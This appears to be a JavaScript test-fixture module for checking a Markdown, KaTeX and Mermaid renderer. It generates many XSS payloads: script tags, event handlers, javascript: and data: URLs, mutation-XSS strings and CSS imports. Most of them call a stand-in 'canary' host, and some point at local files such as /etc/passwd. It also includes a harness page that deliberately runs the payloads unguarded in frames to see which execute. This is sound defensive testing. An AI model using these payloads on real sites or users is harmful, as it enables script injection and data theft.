// What an answer may contain that wants to run scripts or to tell another
// server something: written for this test, and lists that others published.
// `canary` is the address that must never be asked.
import { readFileSync } from 'node:fs';

const run = 'window.hacked=1';

/** spoken is what scripts in diagrams would say. */
export const spoken = 'hacked';

function markup(canary) {
  return [
    `<script>${run}</script>`,
    `<ScRiPt src=${canary}/a.js></sCrIpT>`,
    `<script type=module>import '${canary}/b.js'</script>`,
    `<scr<script>ipt>${run}</scr</script>ipt>`,
    `<img src=x onerror=${run}>`,
    `<img src="${canary}/c.png">`,
    `<img srcset="${canary}/d.png 1x" alt=d>`,
    `<image href=${canary}/e.png>`,
    `<picture><source srcset="${canary}/f.png"><img></picture>`,
    `<svg onload=${run}>`,
    `<svg><script>${run}</script></svg>`,
    `<svg><image href="${canary}/g.svg"/></svg>`,
    `<svg><use href="${canary}/h.svg#a"/></svg>`,
    `<svg><animate attributeName=href values="javascript:${run}"/><a><text>x</text></a></svg>`,
    `<svg><foreignObject><iframe src=${canary}/i></iframe></foreignObject></svg>`,
    `<svg><style>@import url(${canary}/j.css);</style></svg>`,
    `<math><maction actiontype="statusline" xlink:href="javascript:${run}">x</maction></math>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
    `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
    `<iframe src="javascript:${run}"></iframe>`,
    `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
    `<iframe src=${canary}/k></iframe>`,
    `<frameset><frame src=${canary}/l></frameset>`,
    `<object data="${canary}/m.swf"></object>`,
    `<object data="data:text/html,<script>${run}</script>"></object>`,
    `<embed src=${canary}/n>`,
    `<applet code=${canary}/o></applet>`,
    `<form action=${canary}/p><button autofocus>x</button></form>`,
    `<input autofocus onfocus=${run}>`,
    `<input type=image src=${canary}/q.png>`,
    `<button formaction="javascript:${run}">x</button>`,
    `<textarea autofocus onfocus=${run}></textarea>`,
    `<select autofocus onfocus=${run}></select>`,
    `<details open ontoggle=${run}>x</details>`,
    `<video src=${canary}/r.mp4 autoplay onerror=${run}></video>`,
    `<video poster=${canary}/s.png></video>`,
    `<audio src=${canary}/t.mp3 autoplay></audio>`,
    `<track src=${canary}/u.vtt>`,
    `<base href=${canary}/>`,
    `<link rel=stylesheet href=${canary}/v.css>`,
    `<link rel=prefetch href=${canary}/w>`,
    `<link rel=dns-prefetch href=${canary}>`,
    `<meta http-equiv=refresh content="0;url=${canary}/x">`,
    `<style>body{background:url(${canary}/y)}</style>`,
    `<style>@font-face{font-family:z;src:url(${canary}/z)}p{font-family:z}</style>`,
    `<div style="background:url('${canary}/aa')">x</div>`,
    `<p style="list-style-image:url(${canary}/ab)">x</p>`,
    `<table background=${canary}/ac><tr><td>x</td></tr></table>`,
    `<body onload=${run} background=${canary}/ad>`,
    `<a href="javascript:${run}">x</a>`,
    `<a href="${canary}/ae" ping="${canary}/af" onclick=${run}>x</a>`,
    `<a href="jav&#x09;ascript:${run}">x</a>`,
    `<area href="javascript:${run}">`,
    `<marquee onstart=${run}>x</marquee>`,
    `<x onanimationstart=${run} style=animation:x>x</x>`,
    `<template><img src=x onerror=${run}></template>`,
    `<portal src=${canary}/ag></portal>`,
    `<xmp><img src=x onerror=${run}></xmp>`,
    `<!--><img src=x onerror=${run}>-->`,
    `<![CDATA[<img src=x onerror=${run}>]]>`,
    `<?xml-stylesheet href="${canary}/ah"?>`,
    `<div id=kontor><img name=body></div>`,
    `<button data-copy data-citation=1 popovertarget=x>x</button>`,
  ];
}

function targets(canary) {
  return [
    `javascript:${run}`,
    `JaVaScRiPt:${run}`,
    `javascript&colon;${run}`,
    `java%0ascript:${run}`,
    `&#106;avascript:${run}`,
    `\u0001javascript:${run}`,
    `vbscript:msgbox(1)`,
    `data:text/html,<script>${run}</script>`,
    `data:image/svg+xml,<svg onload='${run}'/>`,
    `blob:${canary}/ai`,
    `file:///etc/passwd`,
    `wails://wails/`,
    `ms-msdt:/id`,
    `view-source:${canary}`,
    `//${new URL(canary).host}/aj`,
    `\\\\${new URL(canary).host}\\ak`,
    `/api/call/settings.set`,
    `#/settings/privacy" onmouseover="${run}`,
    `https://user:secret@${new URL(canary).host}/al`,
    `${canary}/am?q=secret`,
  ];
}

function formulas(canary) {
  return [
    `\\href{javascript:${run}}{x}`,
    `\\url{javascript:${run}}`,
    `\\includegraphics{${canary}/an.png}`,
    `\\htmlStyle{background:url(${canary}/ao)}{x}`,
    `\\htmlClass{code}{x}`,
    `\\htmlId{kontor}{x}`,
    `\\htmlData{copy=1}{x}`,
    `\\color{red;background:url(${canary}/ap)}x`,
    `\\textcolor{"onmouseover=${run}}{x}`,
    `\\text{<img src=x onerror=${run}>}`,
    `\\unicode{<script>}`,
    `\\def\\x{\\x\\x}\\x`,
    `\\rule{9999999em}{9999999em}`,
    `\\begin{array}{@{<img src=x onerror=${run}>}c}x\\end{array}`,
  ];
}

function diagrams(canary) {
  // A frame may be gone before anybody asks what it did; what it said stays.
  const say = `console.log('${spoken}')`;
  return [
    `graph TD\n  a["<img src=x onerror=${say}>"] --> b["<img src=${canary}/aq.png>"]`,
    `graph TD\n  a --> b\n  click a "javascript:${say}"`,
    `graph TD\n  a --> b\n  click a href "${canary}/ar" _blank`,
    `graph TD\n  a --> b\n  click a call alert(1)`,
    `%%{init: {"securityLevel": "loose", "htmlLabels": true}}%%\ngraph TD\n  a["<iframe src=${canary}/as></iframe>"]`,
    `%%{init: {"themeCSS": "@import url(${canary}/at.css); * { background: url(${canary}/au) }"}}%%\ngraph TD\n  a --> b`,
    `%%{init: {"fontFamily": "x; } @import url(${canary}/av); a {"}}%%\ngraph TD\n  a --> b`,
    `%%{init: {"theme": "base", "themeVariables": {"primaryColor": "url(${canary}/aw)"}}}%%\ngraph TD\n  a --> b`,
    `---\nconfig:\n  securityLevel: sandbox\n---\ngraph TD\n  a["<script>${say}</script>"]`,
    `graph TD\n  a@{ img: "${canary}/ax.png", label: "x" }`,
    `graph TD\n  a --> b\n  style a fill:url(${canary}/ay)`,
    `graph TD\n  classDef c fill:url('${canary}/az')\n  a:::c`,
    `sequenceDiagram\n  A->>B: <img src=x onerror=${say}>\n  link A: x @ javascript:${say}`,
    `classDiagram\n  class A\n  link A "javascript:${say}"\n  A : <svg onload=${say}>`,
    `stateDiagram-v2\n  s : <img src=${canary}/ba.png>`,
    `pie title <img src=x onerror=${say}>\n  "<b>a" : 1`,
    `mindmap\n  root((<img src=${canary}/bb.png>))`,
    `journey\n  title <svg/onload=${say}>\n  section a\n    b: 1: c`,
  ];
}

/** payloads lists everything, each as one piece of Markdown. */
export function payloads(canary) {
  const raw = markup(canary);
  const links = targets(canary);
  const fence = '```';
  return [
    ...raw,
    // The same where another step reads it: in tables, quotes, lists, notes, and names of languages.
    ...raw.map((text, at) => `| a |\n|---|\n| ${text.replace(/\|/g, '\\|').replace(/\n/g, ' ')} ${at} |`),
    ...raw.slice(0, 24).map((text, at) => `> - **x${at}** ${text}`),
    ...raw.slice(0, 12).map((text, at) => `See.[^n${at}]\n\n[^n${at}]: ${text}`),
    ...raw.slice(0, 12).map((text) => `${fence}${text.replace(/\n/g, ' ')}\nx\n${fence}`),
    ...links.map((target) => `[link](<${target}>)`),
    ...links.map((target) => `![picture](<${target}>)`),
    ...links.map((target, at) => `[reference][r${at}]\n\n[r${at}]: <${target}> "title"`),
    ...links.slice(0, 10).map((target) => `<${target}>`),
    ...formulas(canary).map((tex) => `$$\n${tex}\n$$`),
    ...formulas(canary).map((tex) => `Inline \\(${tex}\\) here.`),
    ...diagrams(canary).map((text) => `${fence}mermaid\n${text}\n${fence}`),
  ];
}

// Addresses of servers in published lists; that of W3C only names languages.
const servers = /(?:https?:)?\/\/(?!(?:www\.)?w3\.org)(?:[\w-]+\.)+[a-z]{2,}(?::\d+)?/gi;

/** published gives the lists of others as { name, text }, their servers replaced by the canary. */
export function published(canary) {
  return ['brs-kb', 'bleach'].flatMap((list) => {
    const file = JSON.parse(readFileSync(new URL(`published/${list}.json`, import.meta.url), 'utf8'));
    return file.payloads.map(([name, text]) => ({ name, text: text.replace(servers, canary) }));
  });
}

/** apart keeps what a payload leaves open from taking the next one in, and says whose it is. */
export function apart({ name, text }) {
  const lines = text.split(/\r\n|\r|\n/);
  return [`# ${name}`, ...lines, '', `${name}: ${lines.join(' ')} .`].map((line) => `> ${line}`).join('\n');
}

/** unguarded is a page that shows payloads as they are, each in a frame of its own. */
export function unguarded(texts) {
  const frame = (text) => {
    const told =
      '<script>{const ran=()=>{parent.ran=(parent.ran??0)+1};' +
      "Object.assign(window,{alert:ran,confirm:ran,prompt:ran,print:ran});Object.defineProperty(window,'hacked',{set:ran})}</script>";
    const safe = (told + text).replaceAll('&', '&amp;').replaceAll('"', '&quot;');
    return `<iframe srcdoc="${safe}"></iframe>`;
  };
  return `<!doctype html><meta charset="utf-8">${texts.map(frame).join('')}`;
}
